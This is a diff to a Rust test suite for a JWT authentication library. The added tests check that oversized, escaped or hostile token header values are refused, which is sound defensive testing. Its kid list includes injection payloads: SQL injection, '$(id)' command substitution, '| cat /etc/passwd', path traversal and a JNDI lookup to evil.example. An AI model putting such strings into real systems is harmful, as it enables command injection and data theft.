@@ -1,5 +1,6 @@
 //! `crit`, `b64`, `zip`, `typ` and hostile values of `kid`.
 
+use clerk_auth::testing::DevIssuer;
 use serde_json::{Value, json};
 
 use super::refused_locally;
@@ -66,12 +67,52 @@ async fn key_id_is_a_string_with_something_in_it() {
     refused_locally(app, tokens).await;
 }
 
+/// A `kid` that makes the token too long is not even decoded.
+#[tokio::test]
+async fn key_id_of_64_kibibytes_is_refused_before_keys_are_loaded() {
+    let app = App::start().await;
+    let kid = json!("k".repeat(64 * 1024));
+    let tokens = Class::ALL.map(|class| {
+        let draft = class.draft(&app.issuer).header("kid", Some(kid.clone()));
+        (class, draft.sign(&app.issuer))
+    });
+    refused_locally(app, tokens).await;
+}
+
+/// An escape in a name is the same name: what must not be there cannot hide behind one.
+#[tokio::test]
+async fn escaped_names_of_the_header_are_the_same_names() {
+    let app = App::start().await;
+    let mut tokens = Vec::new();
+    for class in Class::ALL {
+        let draft = class.draft(&app.issuer);
+        for (name, escaped, value) in [
+            ("crit", r"cr\u0069t", json!(["exp"])),
+            ("b64", r"\u0062\u0036\u0034", json!(false)),
+            ("zip", r"\u007Aip", json!("DEF")),
+            ("alg", r"\u0061lg", json!("none")),
+            ("kid", r"k\u0069d", json!("")),
+        ] {
+            let header = draft.clone().header(name, Some(value)).header_json();
+            let header = header.replace(&format!("\"{name}\""), &format!("\"{escaped}\""));
+            assert!(header.contains(escaped));
+            let payload = draft.payload_json();
+            let token = app.issuer.sign_bytes(header.as_bytes(), payload.as_bytes());
+            tokens.push(((class, escaped), token));
+        }
+    }
+    refused_locally(app, tokens).await;
+}
+
 /// Strings that are special somewhere are nothing special here: the key is not found.
 #[tokio::test]
 async fn hostile_key_ids_are_ordinary_strings() {
     let app = App::start().await.warm().await;
     let ours = app.issuer.key_id();
+    let stranger = DevIssuer::start().await.unwrap();
     let kids = [
+        stranger.key_id(),
+        "hasOwnProperty".to_owned(),
         "__proto__".to_owned(),
         "constructor".to_owned(),
         "toString".to_owned(),
@@ -80,6 +121,10 @@ async fn hostile_key_ids_are_ordinary_strings() {
         "..%2f..%2fx".to_owned(),
         "https://evil.example/jwks.json".to_owned(),
         "' OR '1'='1".to_owned(),
+        "1; DROP TABLE keys; --".to_owned(),
+        "$(id)".to_owned(),
+        "| cat /etc/passwd".to_owned(),
+        "%s%n${jndi:ldap://evil.example/x}".to_owned(),
         "a\r\nx: y".to_owned(),
         "\u{0}".to_owned(),
         format!("{ours}\u{0}"),
@@ -94,16 +139,19 @@ async fn hostile_key_ids_are_ordinary_strings() {
         ".".to_owned(),
         "\u{202e}".to_owned(),
     ];
-    let before = app.issuer.calls().key_set;
+    // One load for the first of them, and none for the rest.
+    let first = Class::Session.draft(&app.issuer).header("kid", Some(json!("first")));
+    app.answers("/session", &first.sign(&app.issuer), 401, 1, "the first unknown kid").await;
     for kid in &kids {
         for class in Class::ALL {
             let draft = class.draft(&app.issuer).header("kid", Some(json!(kid)));
-            let reply = app.server().get(class.route(), &draft.sign(&app.issuer)).await;
-            assert_eq!(reply.status, 401, "{class:?} {kid:?}");
+            app.refuses(class.route(), &draft.sign(&app.issuer), (class, kid)).await;
         }
     }
-    // One load for the first of them, and none for the rest.
-    assert_eq!(app.issuer.calls().key_set, before + 1);
+    // The tokens of another instance are signed with its own key.
+    for class in Class::ALL {
+        app.refuses(class.route(), &class.token(&stranger), (class, "another instance")).await;
+    }
     // An escape is the same string.
     let escaped = format!("\\u0069{}", &ours[1..]);
     for class in Class::ALL {
